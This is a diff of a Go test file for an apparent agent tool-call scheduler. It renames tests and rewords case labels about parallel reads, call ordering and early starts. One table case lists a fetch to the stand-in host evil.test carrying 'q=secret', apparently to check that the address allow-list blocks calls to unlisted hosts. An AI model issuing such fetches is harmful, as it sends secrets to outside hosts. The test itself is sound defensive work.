@@ -32,7 +32,7 @@ func (g *gate) pass(ctx context.Context, args string) (chat.Result, error) {
 }
 
 // Reads between writes run in parallel: the first ends only when all are in flight.
-func TestReadsSideBySide(t *testing.T) {
+func TestParallelReads(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		for _, n := range []int{2, 8} {
 			reads := make([]string, n)
@@ -90,7 +90,7 @@ func TestTalkInOrder(t *testing.T) {
 		}
 		r.mustRun()
 		if !slices.Equal(got, want) {
-			t.Fatalf("told %q, want %q", got, want)
+			t.Fatalf("shown %q, want %q", got, want)
 		}
 	}
 }
@@ -198,10 +198,10 @@ func TestNoEarlyStart(t *testing.T) {
 		want       []string // calls that start before the response has ended
 	}{
 		{"a write", calls(`put("a")`), nil},
-		{"a read behind a write", calls(`put("a")`, `look("b")`), nil},
+		{"a read after a write", calls(`put("a")`, `look("b")`), nil},
 		{"a read before a write", calls(`look("b")`, `put("a")`), []string{`start look {"q":"b"}`}},
-		{"a read behind a write that cannot run", calls(`put(1)`, `look("b")`), nil},
-		{"a read behind a read that cannot run", calls(`look(1)`, `look("b")`), []string{`start look {"q":"b"}`}},
+		{"a read after a write that cannot run", calls(`put(1)`, `look("b")`), nil},
+		{"a read after a read that cannot run", calls(`look(1)`, `look("b")`), []string{`start look {"q":"b"}`}},
 		{"an address", calls(`fetch("http://evil.test/?q=secret")`), nil},
 		{"an allowed address", calls(`fetch("http://ok.test:81/a")`), []string{`start fetch {"uri":"http://ok.test:81/a"}`}},
 		{"another port", calls(`fetch("http://ok.test/a")`), nil},
@@ -282,7 +282,7 @@ func TestUncleanStop(t *testing.T) {
 }
 
 // Calls after finalResponse still run, and their results precede the request for the answer.
-func TestCallsBehindFinalResponse(t *testing.T) {
+func TestCallsAfterFinalResponse(t *testing.T) {
 	r := newRig(t, says(calls("finalResponse()", `look("a")`, `put("b")`)), says(answer42))
 	out := r.mustRun()
 	wantStatuses(t, out, "look ok", "put ok")
